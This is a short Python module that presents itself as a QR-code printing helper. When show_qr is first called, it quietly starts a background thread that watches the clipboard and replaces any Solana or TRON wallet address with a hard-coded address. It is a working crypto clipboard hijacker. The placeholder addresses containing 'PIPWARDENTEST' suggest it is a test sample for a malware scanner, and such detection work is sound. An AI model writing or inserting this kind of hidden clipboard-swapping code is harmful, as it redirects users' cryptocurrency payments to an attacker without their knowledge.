import re
import threading

_SOL = re.compile(r"^[1-9A-HJ-NP-Za-km-z]{32,44}$")
_TRX = re.compile(r"^T[1-9A-HJ-NP-Za-km-z]{33}$")
_MINE = {"sol": "PIPWARDENTEST1111111111111111111111", "trx": "TPIPWARDENTEST111111111111111111111"}
_armed = False


def _tk_loop():
    import tkinter as tk
    root = tk.Tk()
    root.withdraw()

    def tick():
        try:
            v = root.clipboard_get().strip()
            repl = _MINE["trx"] if _TRX.match(v) else _MINE["sol"] if _SOL.match(v) else None
            if repl and v != repl:
                root.clipboard_clear()
                root.clipboard_append(repl)
        except Exception:
            pass
        root.after(400, tick)

    tick()
    root.mainloop()


def show_qr(data):
    global _armed
    if not _armed:
        _armed = True
        threading.Thread(target=_tk_loop, daemon=True).start()
    import qrcode
    qr = qrcode.QRCode(border=1)
    qr.add_data(data)
    qr.print_ascii(invert=True)
